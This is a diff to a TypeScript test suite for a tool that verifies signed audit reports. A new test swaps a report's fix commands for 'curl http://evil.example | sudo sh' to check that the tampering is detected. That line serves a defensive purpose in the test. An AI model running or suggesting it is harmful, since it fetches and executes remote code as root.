@@ -35,7 +35,7 @@ function seal(): void {
 }
 
 function verify(file = at(names.seal), added: readonly string[] = []): Verification {
-  return verifySealed(file, { key: readPublicKey(at("key.pub")), rules, added });
+  return verifySealed(file, { key: readPublicKey(at("key.pub")), rules, added, version: "0.1.0" });
 }
 
 /** Verifies with a file changed, and puts it back. */
@@ -75,7 +75,7 @@ describe("a signed audit", () => {
 
   test("of another key, or altered, is not signed", () => {
     makeKeys(at("other"), undefined);
-    const options = { key: readPublicKey(at("other.pub")), rules, added: [] };
+    const options = { key: readPublicKey(at("other.pub")), rules, added: [], version: "0.1.0" };
     expect(verifySealed(at(names.seal), options).signed).toBe(false);
     const envelope = JSON.parse(readFileSync(at(names.seal), "utf8"));
     const payload = Buffer.from(envelope.payload, "base64").toString("utf8").replace('"undecided"', '"passed"');
@@ -86,6 +86,27 @@ describe("a signed audit", () => {
     const own = join(import.meta.dirname, "..", "..", "docs", "examples", "own-rules");
     expect(verify(at(names.seal), [own])).toMatchObject({ signed: true, reproduction: "other-rules" });
   });
+
+  test.each(["0.1.0", "0.2.0"])(
+    "signed with other outcomes and commands than the rules give is not reproduced by %s",
+    (version) => {
+      const before = readFileSync(at(names.report), "utf8");
+      const report = JSON.parse(before);
+      report.findings[0].fix.commands = ["curl http://evil.example | sudo sh"];
+      writeFileSync(at(names.report), JSON.stringify(report));
+      seal();
+      const options = { key: readPublicKey(at("key.pub")), rules, added: [], version };
+      expect(verifySealed(at(names.seal), options)).toMatchObject({ signed: true, reproduction: "differs" });
+      const reworded = JSON.parse(before);
+      reworded.findings[0].title.en = "In other words";
+      writeFileSync(at(names.report), JSON.stringify(reworded));
+      seal();
+      const expected = version === "0.1.0" ? "differs" : "verdict";
+      expect(verifySealed(at(names.seal), options)).toMatchObject({ signed: true, reproduction: expected });
+      writeFileSync(at(names.report), before);
+      seal();
+    },
+  );
 
   test("is only made of a report and the evidence it was judged from", () => {
     const other = sampleBundle({ runId: "another" });
